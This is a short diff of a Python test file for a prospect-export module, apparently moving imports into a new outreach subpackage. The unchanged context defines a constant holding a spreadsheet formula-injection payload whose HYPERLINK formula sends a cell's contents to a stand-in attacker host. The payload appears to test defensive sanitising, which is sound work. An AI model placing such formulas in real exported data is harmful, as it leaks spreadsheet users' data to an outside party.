@@ -12,9 +12,9 @@ from pathlib import Path
 import pytest
 
 from discover.errors import InputError
-from discover.export import EXPORTERS, FORMATS, export_prospects, get_exporter, safe_cell
+from discover.outreach.export import EXPORTERS, FORMATS, export_prospects, get_exporter, safe_cell
 from discover.records import Prospect
-from discover.shortlist import pitch_angle
+from discover.outreach.shortlist import pitch_angle
 from discover.store import Store
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
